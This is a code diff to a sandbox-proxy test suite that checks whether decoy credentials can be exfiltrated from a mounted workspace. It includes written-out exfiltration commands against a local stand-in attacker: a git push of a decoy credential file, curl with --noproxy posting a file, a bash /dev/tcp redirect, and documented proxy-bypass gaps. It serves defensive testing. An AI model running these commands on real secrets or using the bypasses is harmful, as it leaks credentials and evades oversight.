@@ -2,19 +2,23 @@
 // the token comes from a decoy file in the mounted workspace or from a canary variable, never from argv, so the proxy
 // is the guard that must stop it. Every route: refused (403 or reset), a canary.fired event from the proxy, and the
 // attacker's servers received nothing that contains any form of any canary.
-import { writeFile } from 'node:fs/promises';
+import { mkdir, readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Canary } from '../../src/core/canary.js';
 import { leaks, startAttacker, type Attacker } from '../support/scenarios/attacker.js';
+import { describeEvents, verdict } from '../support/scenarios/checks.js';
+import { startDevServer, type DevServer } from '../support/scenarios/dev-server.js';
 import {
   addCanaries,
   CLIENT,
   eventsUntil,
+  hostSh,
   lastSeq,
   readEvents,
   removeBase,
   scenarioBase,
+  seedBareRepo,
   sessionEnv,
   startSession,
   type RunResult,
@@ -35,6 +39,9 @@ type Key = keyof typeof SRC;
 
 let dirs: Awaited<ReturnType<typeof scenarioBase>>;
 let attacker: Attacker;
+/** The attacker's git forge (git http-backend over HTTPS) for the push route. */
+let forge: DevServer;
+let bare: string;
 let session: Session;
 let canaries: Record<'gh' | 'aws' | 'oai', Canary>;
 let all: Canary[];
@@ -55,16 +62,22 @@ beforeAll(async () => {
   all = [gh!, aws!, oai!, ...rest];
   await writeFile(join(dirs.src, 'README.md'), '# service\n');
   await writeFile(join(dirs.src, 'notes.md'), 'todo\n');
-  const { mkdir } = await import('node:fs/promises');
   await mkdir(join(dirs.src, 'notes'));
   await writeFile(join(dirs.src, SRC.fake.file), `old token (revoked): ${FAKE}\n`);
+  const gitRoot = join(dirs.base, 'forge');
+  await mkdir(gitRoot);
+  forge = await startDevServer({ gitRoot, filesRoot: gitRoot });
+  bare = await seedBareRepo(gitRoot, 'drop.git', { 'README.md': '# drop\n', 'data/numbers.txt': Array.from({ length: 500 }, (_, i) => i).join('\n') }, join(dirs.base, 'seed'));
+  // The session proxy is told to trust both throw-away CAs (GRITH_UPSTREAM_CA: one PEM file).
+  const upstreamCa = join(dirs.base, 'upstream-ca.pem');
+  await writeFile(upstreamCa, (await readFile(attacker.caFile, 'utf8')) + (await readFile(forge.caFile, 'utf8')));
   const dst = join(dirs.base, 'ws');
   session = await startSession({
     home: dirs.home,
     ctl: dirs.ctl,
     args: ['--mount', `${dirs.src}:${dst}`],
     cwd: dirs.base,
-    env: sessionEnv(dirs.home, dirs.user, { GRITH_UPSTREAM_CA: attacker.caFile }),
+    env: sessionEnv(dirs.home, dirs.user, { GRITH_UPSTREAM_CA: upstreamCa }),
     mountpoints: [dst],
   });
 }, T);
@@ -72,6 +85,7 @@ beforeAll(async () => {
 afterAll(async () => {
   await session?.stop();
   await attacker?.close();
+  await forge?.close();
   if (dirs) await removeBase(dirs.base);
 }, T);
 
@@ -256,6 +270,61 @@ describe('network exfiltration through grith shell --mount (proxy)', () => {
       T,
     );
   }
+
+  it(
+    'git push over HTTPS of a commit holding a decoy (pack data, zlib-compressed objects)',
+    async () => {
+      const seq = await lastSeq(dirs.home);
+      const r = await session.run(
+        [
+          `git clone -q ${forge.base}/git/drop.git drop`,
+          'cd drop',
+          `cp ../${SRC.gh.file} creds.txt`,
+          'git add creds.txt',
+          'git commit -qm "backup"',
+          'git push -q origin main; echo "push=$?"',
+        ].join(' && '),
+      );
+      const v = await verdict({ home: dirs.home, afterSeq: seq, canary: canaries.gh, guard: 'proxy', received: () => [], all });
+      const diag = `exit ${r.code}\nstdout: ${r.stdout}\nstderr: ${r.stderr}\nevents:\n${describeEvents(v.fired)}`;
+      expect(r.stdout, diag).toMatch(/push=[1-9]/);
+      expect(v.denials.length, diag).toBeGreaterThan(0);
+      // What the forge holds, decompressed by git itself: no commit "backup", no object carrying the token.
+      expect(await hostSh('git log --oneline main', bare)).not.toContain('backup');
+      const objects = await hostSh('git cat-file --batch-all-objects --batch', bare);
+      expect(leaks([{ seq: 0, kind: 'raw', conn: 0, bytes: Buffer.from(objects, 'latin1') }], all)).toEqual([]);
+    },
+    T,
+  );
+
+  describe('known gaps: routes no guard stops today (it.fails; reported to the lead)', () => {
+    const gaps: { name: string; cmd: () => string; why: string }[] = [
+      {
+        name: "curl --noproxy '*' --data-binary @decoy straight to the attacker",
+        cmd: () => `curl -sS -o /dev/null -w '%{http_code}\\n' --noproxy '*' --data-binary @${SRC.gh.file} ${attacker.http}/direct`,
+        why: 'the proxy is opt-in through variables; a program that ignores them connects directly (no network-level enforcement)',
+      },
+      {
+        name: 'bash /dev/tcp builtin: T=$(cat decoy); printf "$T" > /dev/tcp/127.0.0.1/PORT',
+        cmd: () => `T=$(cat ${SRC.gh.file}); printf '%s' "$T" > /dev/tcp/${attacker.tcpAuthority.replace(':', '/')}`,
+        why: 'no exec (builtin redirection) and no proxy: nothing sees the bytes',
+      },
+    ];
+    for (const g of gaps) {
+      const body = async (): Promise<void> => {
+        const mark = attacker.mark();
+        const seq = await lastSeq(dirs.home);
+        const r = await session.run(g.cmd());
+        const v = await verdict({ home: dirs.home, afterSeq: seq, canary: canaries.gh, guard: 'proxy', received: () => attacker.since(mark), all });
+        const diag = `exit ${r.code}\nstdout: ${r.stdout}\nstderr: ${r.stderr}\nevents:\n${describeEvents(v.fired)}\nleaked: ${v.leaked.join('; ')}`;
+        expect(v.leaked, diag).toEqual([]);
+        expect(v.fired.length, diag).toBeGreaterThan(0);
+      };
+      if (process.env.GRITH_SCENARIO_GAPS) it(`${g.name} — ${g.why}`, body, T);
+      else it.fails(`${g.name} — KNOWN GAP: ${g.why}`, body, T);
+    }
+    it.skip("a program's own DNS lookup of <core>.exfil.example (getaddrinfo) — KNOWN GAP, not run: no guard sees DNS queries, and running it would send the name to this machine's resolver", () => undefined);
+  });
 
   it('events and the session output never carry a token', async () => {
     const { readFile } = await import('node:fs/promises');
